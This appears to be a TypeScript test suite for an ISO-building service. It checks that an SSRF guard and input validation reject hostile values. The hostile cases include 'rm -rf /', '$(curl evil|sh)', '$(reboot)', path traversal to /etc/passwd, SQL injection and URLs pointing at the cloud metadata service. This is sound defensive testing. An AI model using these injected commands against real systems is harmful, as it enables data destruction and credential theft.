import { execFileSync } from "node:child_process";
import dns from "node:dns/promises";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { storeFor } from "@clusterplatform/core";
import { startTestProvisioner, type TestProvisioner } from "../../../test/support/provisioner";
import { eventually } from "../../../test/support/ports";
import { PART_NAMES, isPublicAddress, urlProblem } from "../src";

const LABEL = "CPP TEST ISO";

describe("isPublicAddress / urlProblem (SSRF guard)", () => {
	it.each([
		["127.0.0.1", false], ["10.1.2.3", false], ["172.20.0.1", false], ["192.168.1.1", false], ["169.254.169.254", false],
		["100.64.0.1", false], ["0.0.0.0", false], ["::1", false], ["fe80::1", false], ["fd00::1", false], ["::ffff:127.0.0.1", false],
		["224.0.0.1", false], ["93.184.216.34", true], ["2606:2800:220:1:248:1893:25c8:1946", true], ["not-an-ip", false],
	])("%s public: %s", (address, expected) => {
		expect(isPublicAddress(address)).toBe(expected);
	});

	it.each([
		["file:///etc/passwd", /http\(s\)/], ["gopher://example.org/", /http\(s\)/], ["ftp://example.org/x", /http\(s\)/],
		["http://127.0.0.1:6379/", /loopback/], ["http://[::1]/x", /loopback/], ["http://169.254.169.254/latest/meta-data", /link-local/],
		["http://localhost/x", /localhost/], ["http://example.org/a b", /spaces/], ["http://example.org/\u0000", /control/], ["http://user:pw@example.org/x", /credentials/], ["not-a-url", /absolute/],
	])("refuses %s", (url, reason) => {
		expect(urlProblem(url)).toMatch(reason);
	});

	it("accepts a public https URL", () => {
		expect(urlProblem("https://example.org/ipxe.efi")).toBeNull();
	});
});

describe("isos", () => {
	let provisioner: TestProvisioner;
	let scratch: string;
	let parts: Record<string, any>;
	let ipxe: { bios: string; uefi: string };

	const finished = (entity: string, id: number) =>
		eventually(async () => {
			const row = await (await provisioner.api(`/${entity}/${id}`)).json();
			return ["done", "failed"].includes(row.status) ? row : undefined;
		}, 60_000, `${entity} ${id} finished`);

	async function post(entity: string, body: Record<string, unknown>) {
		const response = await provisioner.api(`/${entity}`, { method: "POST", json: body });
		return { status: response.status, body: await response.json() };
	}

	async function build(entity: string, body: Record<string, unknown>) {
		const created = await post(entity, body);
		expect(created.status).toBe(201);
		return finished(entity, created.body.id);
	}

	beforeAll(async () => {
		scratch = fs.mkdtempSync(path.join(os.tmpdir(), "cpp-isos-test-"));
		provisioner = await startTestProvisioner({ services: ["gateway", "grubs", "grubs-worker", "syslinuxs", "syslinuxs-worker", "isos", "isos-worker"] });
		const store = storeFor(provisioner.config);
		ipxe = {
			bios: (await store.putFile("test-parts/ipxe.lkrn", "/usr/lib/ipxe/ipxe.lkrn")).url,
			uefi: (await store.putFile("test-parts/ipxe.efi", "/usr/lib/ipxe/ipxe.efi")).url,
		};
		const [grubImg, grubEfiX64, grubImgOtherLabel, ldLinux, isolinuxBin, isohdpfxBin] = await Promise.all([
			build("grubs", { label: LABEL, architecture: "x64", fragment: "img" }),
			build("grubs", { label: LABEL, architecture: "x64", fragment: "efi" }),
			build("grubs", { label: "ANOTHER LABEL", architecture: "x64", fragment: "img" }),
			build("syslinuxs", { fragment: "ldlinux.c32" }),
			build("syslinuxs", { fragment: "isolinux.bin" }),
			build("syslinuxs", { fragment: "isohdpfx.bin" }),
		]);
		parts = { grubImg, grubEfiX64, grubImgOtherLabel, ldLinux, isolinuxBin, isohdpfxBin };
	}, 120_000);

	afterAll(async () => {
		await provisioner?.stop();
		if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
	});

	const byIds = () => ({
		label: LABEL,
		ipxeUefiUrl: ipxe.uefi,
		ipxeBiosUrl: ipxe.bios,
		grubImgId: parts.grubImg.id,
		grubEfiX64Id: parts.grubEfiX64.id,
		ldLinuxId: parts.ldLinux.id,
		isolinuxBinId: parts.isolinuxBin.id,
		isohdpfxBinId: parts.isohdpfxBin.id,
		script: "#!ipxe\ndhcp\nchain http://10.0.2.2/api/mainscripts/1\n",
	});

	it("builds from parts given by id, with the layout the boot chain needs", async () => {
		const row = await build("isos", byIds());
		expect(row).toMatchObject({ status: "done", progress: 100, error: null, grubImgId: parts.grubImg.id, grubImgUrl: null });
		const iso = path.join(scratch, "by-ids.iso");
		fs.writeFileSync(iso, Buffer.from(await (await fetch(row.url)).arrayBuffer()));
		const listing = execFileSync("xorriso", ["-indev", iso, "-find", "/", "-type", "f"], { stdio: ["ignore", "pipe", "ignore"] }).toString();
		for (const file of ["/ipxe.lkrn", "/ipxe.efi", "/script.ipxe", "/boot/grub.img", "/isolinux/isolinux.bin", "/isolinux/ldlinux.c32", "/isolinux/isolinux.cfg", "/EFI/BOOT/BOOTX64.EFI"]) {
			expect(listing).toContain(`'${file}'`);
		}
		const cfg = path.join(scratch, "isolinux.cfg");
		execFileSync("xorriso", ["-osirrox", "on", "-indev", iso, "-extract", "/isolinux/isolinux.cfg", cfg], { stdio: "ignore" });
		expect(fs.readFileSync(cfg, "utf8")).toMatch(/LINUX \/ipxe\.lkrn\n\s+INITRD \/script\.ipxe/);
	});

	it("answers identical inputs from the content-addressed cache: done at once, same artifact, survives the first row's DELETE", async () => {
		const first = await build("isos", byIds());
		const second = await post("isos", byIds());
		expect(second.status).toBe(201);
		expect(second.body).toMatchObject({ status: "done", progress: 100, url: first.url });
		expect((await provisioner.api(`/isos/${first.id}`, { method: "DELETE" })).status).toBe(200);
		// Read to the end: a body left unread holds its connection open (and the gateway's shutdown).
		const download = await fetch(second.body.url);
		expect(download.status).toBe(200);
		expect((await download.arrayBuffer()).byteLength).toBeGreaterThan(0);
	});

	it("never reuses an ISO built from outside URLs (their content may change)", async () => {
		// Not cacheable: a public URL part. The build fails (no network here), but the point is the fresh row.
		const body = { ...byIds(), ipxeBiosUrl: "http://192.0.2.1.nip.invalid/ipxe.lkrn" };
		const created = await post("isos", body);
		expect(created.status).toBe(201);
		expect(created.body.status).toBe("queued");
	});

	it("records a failure with its reason: a store URL whose artifact is gone", async () => {
		const gone = storeFor(provisioner.config).url("test-parts/deleted.lkrn");
		const row = await finished("isos", (await post("isos", { ...byIds(), ipxeBiosUrl: gone })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/ipxeBiosUrl: .* is not in the store/);
	});

	it("refuses a grub.zip holding files outside EFI/BOOT/ (it could replace the boot config), with the reason", async () => {
		const dir = path.join(scratch, "evil-zip");
		fs.mkdirSync(path.join(dir, "isolinux"), { recursive: true });
		fs.writeFileSync(path.join(dir, "isolinux", "isolinux.cfg"), "DEFAULT evil\n");
		execFileSync("zip", ["-q", "-r", path.join(scratch, "grub.zip"), "isolinux"], { cwd: dir });
		const evil = await storeFor(provisioner.config).putFile("test-parts/evil/grub.zip", path.join(scratch, "grub.zip"));
		const row = await finished("isos", (await post("isos", { ...byIds(), grubEfiX64Id: undefined, grubEfiX64Url: evil.url })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/grubEfiX64Url: the zip holds "isolinux\/", outside EFI\/BOOT\//);
	});

	it("refuses at build time a host name that resolves to a loopback address (SSRF), with the reason", async () => {
		const name = os.hostname();
		const addresses = await dns.lookup(name, { all: true }).catch(() => []);
		if (!addresses.length || addresses.some((a) => isPublicAddress(a.address))) {
			console.log(`SKIPPED: ${name} does not resolve to a loopback/private address on this machine`);
			return;
		}
		const row = await finished("isos", (await post("isos", { ...byIds(), ipxeBiosUrl: `http://${name}:1/ipxe.lkrn` })).body.id);
		expect(row.status).toBe("failed");
		expect(row.error).toMatch(/ipxeBiosUrl: .* resolves to .*refused/);
	});

	const hostile: [string, (b: Record<string, unknown>) => Record<string, unknown>, string][] = [
		["shell metacharacters in the label", (b) => ({ ...b, label: "ISO; rm -rf /" }), "label"],
		["$(…) in the label", (b) => ({ ...b, label: "$(reboot)" }), "label"],
		["a newline in the label", (b) => ({ ...b, label: "ISO\nchainloader x" }), "label"],
		["a NUL in the label", (b) => ({ ...b, label: "ISO\u0000" }), "label"],
		["a file:// part", (b) => ({ ...b, ipxeBiosUrl: "file:///etc/passwd" }), "ipxeBiosUrl"],
		["a loopback part", (b) => ({ ...b, ipxeBiosUrl: "http://127.0.0.1:6379/" }), "ipxeBiosUrl"],
		["a metadata-service part", (b) => ({ ...b, ipxeUefiUrl: "http://169.254.169.254/latest/meta-data/" }), "ipxeUefiUrl"],
		["an IPv6 loopback part", (b) => ({ ...b, ipxeUefiUrl: "http://[::1]/ipxe.efi" }), "ipxeUefiUrl"],
		["a non-string URL", (b) => ({ ...b, ipxeUefiUrl: { href: "http://x" } }), "ipxeUefiUrl"],
		["a path-traversal id", (b) => ({ ...b, grubImgId: "../../etc/passwd" }), "grubImgId"],
		["a string id", (b) => ({ ...b, grubImgId: "1" }), "grubImgId"],
		["a fractional id", (b) => ({ ...b, ldLinuxId: 1.5 }), "ldLinuxId"],
		["a negative id", (b) => ({ ...b, ldLinuxId: -1 }), "ldLinuxId"],
		["an unknown id", (b) => ({ ...b, ldLinuxId: 999999 }), "ldLinuxId"],
		["an id of the wrong kind of part", (b) => ({ ...b, ldLinuxId: parts.isolinuxBin.id }), "ldLinuxId"],
		["a grub.zip as grubImg", (b) => ({ ...b, grubImgId: parts.grubEfiX64.id }), "grubImgId"],
		["a GRUB image searching another label", (b) => ({ ...b, grubImgId: parts.grubImgOtherLabel.id }), "label"],
		["a GRUB image (by store URL) searching another label", (b) => ({ ...b, grubImgId: undefined, grubImgUrl: parts.grubImgOtherLabel.url }), "label"],
		["a part both by URL and by id", (b) => ({ ...b, ldLinuxUrl: parts.ldLinux.url }), "ldLinuxId"],
		["a missing required part", (b) => ({ ...b, isohdpfxBinId: undefined }), "isohdpfxBinUrl"],
		["a script that is not iPXE", (b) => ({ ...b, script: "rm -rf /" }), "script"],
		["a script with a NUL", (b) => ({ ...b, script: "#!ipxe\nchain x\u0000" }), "script"],
		["an unknown field", (b) => ({ ...b, xorrisoArgs: ["-e", "/etc/shadow"] }), "xorrisoArgs"],
	];
	// Every part field, URL and id alike, with the usual hostile values.
	for (const part of PART_NAMES) {
		hostile.push(
			[`file:// in ${part}Url`, (b) => ({ ...b, [`${part}Id`]: undefined, [`${part}Url`]: "file:///etc/passwd" }), `${part}Url`],
			[`$(…) in ${part}Url`, (b) => ({ ...b, [`${part}Id`]: undefined, [`${part}Url`]: "$(curl evil|sh)" }), `${part}Url`],
			[`a NUL in ${part}Url`, (b) => ({ ...b, [`${part}Id`]: undefined, [`${part}Url`]: "http://example.org/x\u0000;reboot" }), `${part}Url`],
			[`a path traversal in ${part}Id`, (b) => ({ ...b, [`${part}Url`]: undefined, [`${part}Id`]: "../../../etc/passwd" }), `${part}Id`],
			[`a number as text in ${part}Id`, (b) => ({ ...b, [`${part}Url`]: undefined, [`${part}Id`]: "1; DROP TABLE isos" }), `${part}Id`],
		);
	}
	it.each(hostile)("refuses %s with a 422 naming the field, and writes no row", async (_what, change, field) => {
		const before = (await (await provisioner.api("/isos")).json()).total;
		const response = await post("isos", change(byIds()));
		expect(response.status).toBe(422);
		expect(JSON.stringify(response.body.data)).toContain(field);
		expect((await (await provisioner.api("/isos")).json()).total).toBe(before);
	});
});
